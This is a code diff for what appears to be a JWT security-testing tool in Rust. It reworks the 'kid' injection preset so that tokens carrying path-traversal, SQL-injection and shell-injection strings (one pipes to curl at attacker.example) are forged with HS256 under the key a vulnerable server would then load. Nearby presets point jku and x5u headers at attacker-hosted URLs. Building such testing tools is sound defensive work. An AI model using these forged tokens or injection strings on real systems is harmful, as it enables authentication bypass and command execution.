@@ -5,15 +5,22 @@
 
 use serde_json::{Map, Value};
 
-use crate::jose::alg::{Algorithm, Curve, Family};
+use crate::jose::alg::{Algorithm, Curve};
 use crate::jose::base64url;
 use crate::jose::keygen::{self, KeyKind};
 use crate::jose::keys::{Key, KeyMaterial};
 use crate::jose::sign;
 
 /// Strings for the `kid` injection preset.
-pub const KID_INJECTIONS: [&str; 5] =
-    ["../../../../../../dev/null", "/dev/null", "x' UNION SELECT 'AA==' -- ", "key.pem|curl attacker.example", "$(id)"];
+/// Each comes with the HMAC secret a vulnerable server then uses: an empty file, the value the
+/// injected SQL selects, or (for shell injection) the command's empty output.
+pub const KID_INJECTIONS: [(&str, &str); 5] = [
+    ("../../../../../../dev/null", ""),
+    ("/dev/null", ""),
+    ("x' UNION SELECT 'AA==' -- ", "AA=="),
+    ("key.pem|curl attacker.example", ""),
+    ("$(id)", ""),
+];
 
 /// The capitalisations of `none` that libraries have been fooled by.
 pub const NONE_VARIANTS: [&str; 4] = ["none", "None", "NONE", "nOnE"];
@@ -37,7 +44,7 @@ pub enum Preset {
     /// `x5u` pointing at a URL (never fetched); signed with a fresh key.
     X5u(String),
     /// `kid` set to an injection string; re-signed with the signing key when one fits.
-    KidInjection(&'static str),
+    KidInjection(&'static str, &'static str),
 }
 
 impl Preset {
@@ -56,7 +63,7 @@ impl Preset {
             Self::Jku("https://attacker.example/jwks.json".to_owned()),
             Self::X5u("https://attacker.example/cert.pem".to_owned()),
         ]);
-        all.extend(KID_INJECTIONS.iter().map(|k| Self::KidInjection(k)));
+        all.extend(KID_INJECTIONS.iter().map(|(kid, secret)| Self::KidInjection(kid, secret)));
         all
     }
 
@@ -73,7 +80,7 @@ impl Preset {
             Self::EmbeddedJwk => "Embedded jwk header".to_owned(),
             Self::Jku(_) => "jku pointing at a URL".to_owned(),
             Self::X5u(_) => "x5u pointing at a URL".to_owned(),
-            Self::KidInjection(kid) => format!("kid injection: {kid}"),
+            Self::KidInjection(kid, _) => format!("kid injection: {kid}"),
         }
     }
 
@@ -102,8 +109,8 @@ impl Preset {
                 "Points the verifier at a key set the attacker hosts; a server that fetches jku trusts the attacker's key (and may be led to request internal URLs). RFC 8725 §3.10."
             }
             Self::X5u(_) => "Points the verifier at a certificate the attacker hosts. RFC 8725 §3.10; RFC 7515 §4.1.5.",
-            Self::KidInjection(_) => {
-                "Puts a path traversal, SQL or shell string in kid; servers that use kid to find the key may read a predictable file or run the string. RFC 8725 §3.10."
+            Self::KidInjection(..) => {
+                "Puts a path traversal, SQL or shell string in kid and signs HS256 with the key a vulnerable server would then load (an empty file, the SQL-selected value). RFC 8725 §3.10."
             }
         }
     }
@@ -147,7 +154,7 @@ fn unsigned(header_text: &str, payload_text: &str, signature: &[u8]) -> String {
 }
 
 /// Applies `preset` to the header and payload text. `signing_key` is the key the user chose
-/// for signing (used by `WrongLengthSignature` and `KidInjection`); `keys` are the loaded
+/// for signing (used by `WrongLengthSignature`); `keys` are the loaded
 /// keys (the key-confusion preset uses the first public key loaded from PEM).
 pub fn apply(
     preset: &Preset,
@@ -217,18 +224,14 @@ pub fn apply(
             let token = sign::encode(&h, payload_text, Algorithm::ES256, &generated.key)?;
             Ok(Applied { token, header_text: h, generated: Some(generated) })
         }
-        Preset::KidInjection(kid) => {
+        Preset::KidInjection(kid, secret) => {
+            set(&mut header, "alg", Value::String("HS256".to_owned()));
             set(&mut header, "kid", Value::String((*kid).to_owned()));
             let h = text(&header);
-            let signed = match (alg_of(&header), signing_key) {
-                (Some(alg), Some(key))
-                    if key.fit(alg).is_ok() && (alg.family() == Family::Hmac || key.is_private()) =>
-                {
-                    Some(sign::encode(&h, payload_text, alg, key)?)
-                }
-                _ => None,
-            };
-            Ok(done(h.clone(), signed.unwrap_or_else(|| unsigned(&h, payload_text, &[0x5a; 32]))))
+            let key =
+                crate::jose::keys::secret_from_text(secret, crate::jose::keys::SecretEncoding::Utf8, "injected key")
+                    .map_err(|e| PresetError::Header(e.to_string()))?;
+            Ok(done(h.clone(), sign::encode(&h, payload_text, Algorithm::HS256, &key)?))
         }
     }
 }
